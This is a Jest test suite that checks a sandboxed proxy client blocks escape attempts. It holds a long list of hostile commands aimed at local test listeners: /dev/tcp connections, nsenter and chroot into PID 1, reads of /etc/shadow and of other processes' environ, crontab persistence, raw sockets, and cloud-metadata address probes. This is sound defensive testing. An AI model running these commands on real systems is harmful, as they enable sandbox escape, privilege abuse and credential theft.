import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { hostname, networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { NodeOrigin } from '../../support/node-origin.js';
import { Program } from '../../support/program.js';
import { until } from '../../support/until.js';

const MAIN = 'apps/proxy-client/bundle/lib/proxy-client.js';
const NODE = process.execPath;

/** Connects by TCP, UDP and Unix sockets to each target, through a proxy only where it says so; prints the outcome of each. */
const ATTEMPTS = `
  import { connect } from 'node:net';
  import { createSocket } from 'node:dgram';
  import { Resolver, lookup } from 'node:dns/promises';
  const { tcp, udp, unix, names, proxied } = JSON.parse(process.argv[1]);
  const proxy = new URL(process.env.http_proxy);
  const limited = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, 3000, 'no answer'))]);
  const open = (options) => limited(new Promise((resolve) => {
    const socket = connect(options);
    socket.on('connect', () => { socket.write('escaped'); resolve('connected'); }).on('error', ({ code }) => resolve(code));
  }));
  const send = ({ host, port, type }) => limited(new Promise((resolve) => {
    createSocket(type).on('error', ({ code }) => resolve(code)).send('escaped', port, host, (error) => resolve(error?.code ?? 'sent'));
  }));
  const ask = (name, server) => {
    const resolver = new Resolver({ timeout: 500, tries: 1 });
    if (server) resolver.setServers([server]);
    return limited((!server ? lookup(name) : resolver.resolve4(name)).then(() => 'resolved', ({ code }) => code));
  };
  const tunnel = (authority) => limited(new Promise((resolve) => {
    const socket = connect(Number(proxy.port), proxy.hostname);
    socket.write('CONNECT ' + authority + ' HTTP/1.1\\r\\nHost: ' + authority + '\\r\\n\\r\\n');
    socket.once('data', (data) => resolve(data.toString('latin1').slice(9, 12))).on('error', ({ code }) => resolve(code));
  }));
  const results = {
    tcp: await Promise.all(tcp.map(open)), udp: await Promise.all(udp.map(send)), unix: await Promise.all(unix.map((path) => open({ path }))),
    names: await Promise.all(names.map(([name, server]) => ask(name, server))), proxied: await Promise.all(proxied.map(tunnel)),
  };
  console.log(JSON.stringify(results));
  process.exit();`;

const bwrap = spawnSync('bwrap', ['--unshare-net', '--ro-bind', '/', '/', '--proc', '/proc', 'true']).status;
const inSandbox = bwrap === 0 ? describe : describe.skip;

inSandbox('attempts to leave the sandbox', () => {
  const directory = mkdtempSync(join(tmpdir(), 'sandbox-bypass-'));
  const project = join(directory, 'project');
  const abstract = `\0sandbox-bypass-${process.pid}`;
  const received: string[] = [];
  const server = createServer((socket) => {
    received.push(`tcp ${socket.remoteAddress ?? 'unix'}`);
    socket.destroy();
  });
  const local = createServer((socket) => {
    received.push('unix');
    socket.destroy();
  });
  const hidden = createServer((socket) => {
    received.push('abstract');
    socket.destroy();
  });
  const datagrams = createSocket('udp4', () => void received.push('udp'));
  let upstream: NodeOrigin;
  let port: number;
  let attempts = 0;

  beforeAll(async () => {
    spawnSync('mkdir', ['-p', project]);
    upstream = await NodeOrigin.start((request, answer) => {
      received.push(`upstream ${request.url ?? ''}`);
      answer.end();
    });
    upstream.server.on('connect', (request, socket) => {
      received.push(`upstream ${request.url ?? ''}`);
      socket.destroy();
    });
    server.listen(0, '::');
    await once(server, 'listening');
    ({ port } = server.address() as AddressInfo);
    local.listen(join(directory, 'outside.sock'));
    hidden.listen(abstract);
    datagrams.bind(port, '0.0.0.0');
    await Promise.all([once(local, 'listening'), once(hidden, 'listening'), once(datagrams, 'listening')]);
    writeFileSync(
      join(directory, 'gate.yaml'),
      JSON.stringify({
        upstream: upstream.url,
        default: 'reject',
        admin: { port: 0, token: 'a-token-of-16-letters' },
        rules: [{ hosts: ['*'], ports: [8443], to: 'upstream' }],
      }),
    );
  });
  afterAll(async () => {
    for (const each of [server, local, hidden]) each.close();
    datagrams.close();
    await upstream[Symbol.asyncDispose]();
    rmSync(directory, { recursive: true });
  });

  async function run(command: readonly string[], env: Readonly<Record<string, string>> = {}) {
    const program = new Program({
      main: MAIN,
      args: ['run', '--config', join(directory, 'gate.yaml'), '--', ...command],
      cwd: project,
      env: { HOME: '/nonexistent', SECRET: 'of-the-parent', ...env },
    });
    await program.ended;
    return program;
  }

  it('by addresses, names, datagrams, Unix sockets and the proxy itself', async () => {
    const own = Object.values(networkInterfaces()).flatMap((each) => (each ?? []).map(({ address }) => address));
    const hosts = [
      ...['127.0.0.1', '127.0.0.2', '127.1', '2130706433', '0x7f000001', '0.0.0.0', '::1', '::', '::ffff:127.0.0.2'],
      ...['169.254.169.254', 'fd00:ec2::254', '100.100.100.200', '10.0.0.1', '172.17.0.1', '192.168.0.1', '192.0.2.1'],
      ...['8.8.8.8', '1.1.1.1', '2001:4860:4860::8888', '64:ff9b::808:808', '2002:7f00:1::', 'fe80::1', '224.0.0.1'],
      ...['localhost', 'host.docker.internal', 'metadata.google.internal', hostname(), ...own],
    ];
    const tcp = hosts.flatMap((host) => [port, 53, 443].map((each) => ({ host, port: each })));
    const udp = ['127.0.0.1', '127.0.0.2', '8.8.8.8', '192.0.2.1', '169.254.169.254', '255.255.255.255'].map(
      (host) => ({ host, port, type: 'udp4' }),
    );
    const unix = [
      '/run/docker.sock',
      '/var/run/docker.sock',
      '/run/dbus/system_bus_socket',
      '/dev/log',
      join(directory, 'outside.sock'),
      '../outside.sock',
      '/proc/1/root/run/docker.sock',
      abstract,
    ];
    const names = [
      ['a.example', undefined],
      ['a.example', '8.8.8.8'],
      ['a.example', `127.0.0.1:${port}`],
      ['a.example', '[2001:4860:4860::8888]'],
    ];
    const places = [
      '127.0.0.1',
      '127.0.0.2',
      '127.1',
      '2130706433',
      '0x7f.1',
      '0.0.0.0',
      '[::1]',
      '[::]',
      '[::ffff:127.0.0.1]',
      '[64:ff9b::7f00:1]',
      'localhost',
      'a.localhost',
      '169.254.169.254',
      '[fd00:ec2::254]',
      '[::ffff:169.254.169.254]',
      '[fe80::1]',
      '224.0.0.1',
      'a.example',
      '8.8.8.8',
    ];
    const proxied = [...places.map((host) => `${host}:${port}`), ...places.slice(0, -2).map((host) => `${host}:8443`)];
    const program = await run([
      NODE,
      '--input-type=module',
      '-e',
      ATTEMPTS,
      JSON.stringify({ tcp, udp, unix, names, proxied }),
    ]);
    if (program.stdout === '') throw new Error(program.stderr);
    const results = JSON.parse(program.stdout) as Readonly<Record<string, readonly string[]>>;
    attempts += Object.values(results).flat().length;
    expect(results['tcp']?.filter((each) => each === 'connected')).toEqual([]);
    expect(results['unix']?.filter((each) => each === 'connected')).toEqual([]);
    expect(results['names']).not.toContain('resolved');
    expect(new Set(results['proxied'])).toEqual(new Set(['403']));
    expect(received).toEqual([]);
  });

  it('by other programs, and by what belongs to other processes', async () => {
    const target = `127.0.0.2 ${port}`;
    const url = `http://127.0.0.2:${port}/`;
    const commands = [
      `curl -m2 --noproxy '*' ${url}`,
      `env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY curl -m2 ${url}`,
      `curl -m2 -x http://${target.replace(' ', ':')} http://a.example/`,
      `curl -m2 -x socks5h://8.8.8.8:1080 http://a.example/`,
      `curl -m2 --interface eth0 ${url}`,
      `curl -m2 --unix-socket ${join(directory, 'outside.sock')} http://a/`,
      `curl -m2 --abstract-unix-socket sandbox-bypass-${process.pid} http://a/`,
      `curl -m2 --doh-url https://1.1.1.1/dns-query https://a.example/`,
      `exec 9<>/dev/tcp/127.0.0.2/${port} && echo x >&9`,
      `exec 9<>/dev/udp/127.0.0.1/${port} && echo x >&9`,
      `ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=2 -p ${port} 127.0.0.2`,
      `ssh -o ProxyCommand=none -o BatchMode=yes -o ConnectTimeout=2 -p ${port} 127.0.0.2`,
      `ssh -o ProxyCommand='nc %h %p' -o BatchMode=yes -p ${port} 127.0.0.2`,
      `GIT_SSH_COMMAND='ssh -F /dev/null' git ls-remote ssh://127.0.0.2:${port}/r`,
      `git -c core.sshCommand='ssh -o ProxyCommand=none' ls-remote ssh://127.0.0.2:${port}/r`,
      `git -c http.proxy= ls-remote ${url}r`,
      `git ls-remote git://127.0.0.2:${port}/r`,
      `unshare -n true; nsenter -t 1 -n curl -m2 ${url}`,
      `nsenter --net=/proc/1/ns/net curl -m2 ${url}`,
      `bwrap --ro-bind / / --unshare-user --share-net curl -m2 ${url}`,
      `chroot /proc/1/root curl -m2 ${url}`,
      `ip link add veth0 type veth && ip link set veth0 up && curl -m2 ${url}`,
      `ip route add default dev lo && curl -m2 http://8.8.8.8/`,
      `mount -t proc proc /mnt && curl -m2 ${url}`,
      `su -c 'curl -m2 ${url}'`,
      `sudo -n curl -m2 ${url}`,
      `ping -c1 -W1 8.8.8.8 && echo escaped`,
      `systemd-run --user curl ${url} && echo escaped`,
      `at now <<< 'curl ${url}' && echo escaped`,
      `docker run --rm x && echo escaped`,
      `python3 -c "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)" && echo escaped`,
      `python3 -c "import socket; s = socket.socket(socket.AF_VSOCK); s.settimeout(1); s.connect((2, ${port}))" && echo escaped`,
      `cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -c '^PROXY_' | grep -v '^0$' && echo escaped`,
      `ls /proc/${process.pid} && echo escaped`,
      `kill -0 ${process.pid} && echo escaped`,
      `cat ${join(directory, 'gate.yaml')} && echo escaped`,
      `ls ${directory}/outside.sock && echo escaped`,
      `cat /etc/shadow && echo escaped`,
      `find / -xdev -name 'admin-*.token' 2>/dev/null | grep . && echo escaped`,
      `echo core > /proc/sys/kernel/core_pattern && echo escaped`,
      `mknod /tmp/sda b 8 0 && echo escaped`,
      `cat /proc/1/root/etc/shadow | grep . && echo escaped`,
      `DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/0/bus dbus-send --session / a.b && echo escaped`,
      `DBUS_SYSTEM_BUS_ADDRESS=unix:abstract=sandbox-bypass-${process.pid} dbus-send --system / a.b`,
      `ls /tmp/.X11-unix/* /run/user/*/wayland-* /run/dbus && echo escaped`,
      `curl -m2 --abstract-unix-socket /tmp/.X11-unix/X0 http://a/ && echo escaped`,
      `systemctl start x && echo escaped`,
      `systemd-run true && echo escaped`,
      `echo '* * * * * curl ${url}' | crontab - && echo escaped`,
      `touch /var/spool/cron/crontabs/root /etc/cron.d/x && echo escaped`,
      `python3 -c "import os; os.mkdir('/sys/fs/cgroup/x')" && echo escaped`,
      `ls /sys/kernel && echo escaped`,
      `dmesg | grep . && echo escaped`,
      `python3 -c "import fcntl; fcntl.ioctl(0, 0x5412, b'x')" && echo escaped`,
      `python3 -c "import fcntl, os; fcntl.ioctl(os.open('/dev/tty', 2), 0x5412, b'x')" && echo escaped`,
      `timeout -k 1 2 gdb -p 1 -batch -ex 'call (int) getpid()' 2>&1 | grep '= 1' && echo escaped`,
      `python3 -c "import ctypes; l = ctypes.CDLL(None); exit(l.syscall(425, 8, 0) < 0)" && echo escaped`,
      `python3 -c "import ctypes; l = ctypes.CDLL(None); exit(l.syscall(300, 0x10, 0) < 0)" && echo escaped`,
      `python3 -c "import socket; socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)" && echo escaped`,
      `python3 -c "import socket; socket.socket(socket.AF_BLUETOOTH, socket.SOCK_RAW)" && echo escaped`,
      `python3 -c "import socket; s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15); s.bind((0, 1))" && echo escaped-uevents`,
      `python3 -c "import os; f = os.memfd_create('x'); os.write(f, b'#!/bin/sh\ncurl -m2 ${url}'); os.execve(f, ['x'], {})"`,
      `ln -s ${directory}/gate.yaml link; cat link | grep . && echo escaped; echo x > link`,
      `mkdir up && mount --bind / up && echo escaped`,
      `unshare -Ur sh -c 'mount --bind / /mnt && cat /mnt/etc/shadow' && echo escaped`,
      `unshare -Urn sh -c 'ip link set lo up; curl -m2 ${url}'`,
      `unshare -Urm sh -c 'umount -l ${project}; ls ${directory}/gate.yaml' && echo escaped`,
      `unshare -Ur nsenter --net=/proc/1/ns/net curl -m2 ${url}`,
      `echo 1 > /proc/irq/default_smp_affinity && echo escaped`,
      `for fd in /proc/self/fd/*; do [ "\${fd##*/}" -gt 2 ] && readlink $fd | grep socket && echo escaped; done`,
    ];
    const script = commands.map((command) => `( ${command} ) 2>/dev/null </dev/null`).join('\n');
    const program = await run(['bash', '-c', `${script}\nexit 0`], { PROXY_LOG_LEVEL: 'error' });
    attempts += commands.length;
    expect(program.stdout).not.toContain('escaped');
    expect(received).toEqual([]);
  });

  it('would have been noticed', async () => {
    const commands = [
      `exec 9<>/dev/tcp/127.0.0.2/${port}`,
      `echo x > /dev/udp/127.0.0.1/${port}`,
      `curl -s -m1 --abstract-unix-socket sandbox-bypass-${process.pid} http://a/`,
      `curl -s -m1 --unix-socket ${join(directory, 'outside.sock')} http://a/`,
    ];
    spawnSync('bash', ['-c', commands.map((command) => `( ${command} )`).join('\n')], { timeout: 10_000 });
    await until(() => new Set(received).size === 4);
  });

  it('were at least 100', () => {
    expect(attempts).toBeGreaterThanOrEqual(100);
  });
});
